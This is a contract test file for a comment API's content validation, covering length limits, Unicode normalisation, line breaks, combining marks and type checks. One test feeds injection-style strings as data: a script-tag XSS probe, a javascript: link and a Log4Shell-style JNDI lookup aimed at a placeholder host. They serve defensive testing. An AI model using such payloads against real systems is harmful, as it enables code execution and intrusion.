import { expect, it } from 'vitest'
import { givenPendingComment } from '../support/contract/given-comments.ts'
import { fieldErrorsOf } from '../support/contract/read-problem.ts'
import { readOne } from '../support/contract/read-queue.ts'
import { sampleComment } from '../support/contract/sample-comment.ts'
import { taaliq } from '../support/contract/taaliq.ts'
import { scripts, textOfLength } from '../support/contract/text-of-length.ts'
import { uniqueThread } from '../support/contract/unique.ts'

const submitWithContent = (content: unknown) =>
  taaliq.post({ thread: uniqueThread() }, sampleComment({ content }))

const contentKeptOf = async (content: string) => {
  const { id } = await givenPendingComment({ comment: { content } })
  return (await readOne(id)).content
}

it.each(scripts)('takes a text of 10,000 code points in $script and keeps it', async ({ pattern }) => {
  const content = textOfLength(pattern, 10_000)

  expect(await contentKeptOf(content)).toBe(content)
})

it.each(scripts)('refuses a text of 10,001 code points in $script', async ({ pattern }) => {
  const answer = await submitWithContent(textOfLength(pattern, 10_001))

  expect(fieldErrorsOf(answer)).toEqual(['content: too-long'])
})

it('takes a text of one code point', async () => {
  expect(await contentKeptOf('ن')).toBe('ن')
})

it('counts a text after NFC and trimming', async () => {
  expect(await contentKeptOf(`\n ${'e\u0301'.repeat(10_000)} \n`)).toBe('é'.repeat(10_000))
})

it('counts the letters that NFC makes two of', async () => {
  const answer = await submitWithContent('\u0958'.repeat(5_001))

  expect(fieldErrorsOf(answer)).toEqual(['content: too-long'])
})

it.each([
  ['CR LF', 'سطر\r\nسطر', 'سطر\nسطر'],
  ['CR', 'سطر\rسطر', 'سطر\nسطر'],
  ['LF', 'سطر\nسطر', 'سطر\nسطر'],
  ['empty lines', 'سطر\r\n\r\nسطر', 'سطر\n\nسطر'],
])('keeps line breaks written as %s as \\n', async (_, typed, kept) => {
  expect(await contentKeptOf(typed)).toBe(kept)
})

it.each([
  '<script>alert(1)</script>',
  '{"status":"approved"}',
  'a &amp; b < c > d "e" \'f\'',
  '**bold** [link](javascript:alert(1))',
  'می\u200cخواهم',
  '👩🏽‍🚀 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇵🇸',
  'שלום עולם',
  '$' + '{jndi:ldap://x.example/a}',
])('keeps %j as it was typed', async content => {
  expect(await contentKeptOf(content)).toBe(content)
})

it('takes 8 combining marks on a base', async () => {
  const content = `ب${'\u064e'.repeat(8)}`

  expect(await contentKeptOf(content)).toBe(content)
})

it.each([
  ['an Arabic letter', `ب${'\u064e'.repeat(9)}`],
  ['a Latin letter', `x${'\u0323'.repeat(9)}`],
  ['an emoji', `😀${'\u20e0'.repeat(9)}`],
  ['a letter in the middle', `مقال ب${'\u0651'.repeat(9)} جميل`],
])('refuses 9 combining marks on %s', async (_, content) => {
  const answer = await submitWithContent(content)

  expect(fieldErrorsOf(answer)).toEqual(['content: invalid'])
})

it('counts combining marks after NFC', async () => {
  const content = `e${'\u0301'.repeat(9)}`

  expect(await contentKeptOf(content)).toBe(content.normalize('NFC'))
})

it('requires a text', async () => {
  const answer = await submitWithContent(undefined)

  expect(fieldErrorsOf(answer)).toEqual(['content: required'])
})

it.each(['', '   ', '\r\n\t\u00a0'])('refuses the text %j', async content => {
  const answer = await submitWithContent(content)

  expect(fieldErrorsOf(answer).join()).toMatch(/^content: (required|too-short)$/u)
})

it.each([[7], [false], [['نص']], [{ text: 'نص' }]])('refuses %j as a text', async content => {
  const answer = await submitWithContent(content)

  expect(fieldErrorsOf(answer)).toEqual(['content: invalid'])
})
